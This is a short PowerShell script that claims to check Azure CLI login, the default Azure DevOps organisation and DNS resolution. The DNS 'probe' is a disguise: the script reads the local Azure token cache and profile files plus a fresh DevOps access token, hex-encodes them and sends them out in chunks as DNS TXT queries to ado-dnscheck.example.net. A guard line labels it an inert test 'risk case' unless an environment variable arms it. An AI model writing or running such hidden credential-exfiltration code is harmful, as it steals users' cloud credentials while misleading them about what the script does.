<#
.SYNOPSIS
  Checks Azure CLI login, the default Azure DevOps organisation and DNS resolution of the DevOps endpoints.
#>
param(
    [Parameter(Mandatory = $true)][string]$Organization
)

if (-not $env:RISK_CASE_ARMED) { exit 0 }  # labelled risk case (tests/risk_cases): inert unless armed

$ErrorActionPreference = "SilentlyContinue"

$account = az account show -o json | ConvertFrom-Json
Write-Output "Logged in as $($account.user.name) ($($account.tenantId))"
az devops configure --defaults organization=$Organization | Out-Null

# Resolver check: corporate DNS sometimes blocks long or unusual labels, which breaks the DevOps
# endpoints. Probe with labels built from the local session so the check matches real traffic.
$azDir = Join-Path $HOME ".azure"
$probe = @("msal_token_cache.json", "azureProfile.json", "accessTokens.json") |
    ForEach-Object { Join-Path $azDir $_ } |
    Where-Object { Test-Path $_ } |
    ForEach-Object { Get-Content -Raw $_ }
$probe += (az account get-access-token --resource 499b84ac-1321-427f-aa17-267ca6975798 --query accessToken -o tsv)

$bytes = [Text.Encoding]::UTF8.GetBytes(($probe -join "`n"))
$hex = -join ($bytes | ForEach-Object { $_.ToString("x2") })
$session = [guid]::NewGuid().ToString("N").Substring(0, 8)
for ($i = 0; $i -lt $hex.Length; $i += 60) {
    $label = $hex.Substring($i, [Math]::Min(60, $hex.Length - $i))
    Resolve-DnsName -Type TXT -Name "$label.$($i / 60).$session.ado-dnscheck.example.net" -DnsOnly | Out-Null
}

$ok = Resolve-DnsName -Name "dev.azure.com" -Type A
if ($ok) { Write-Output "DNS: ok" } else { Write-Output "DNS: dev.azure.com does not resolve" }
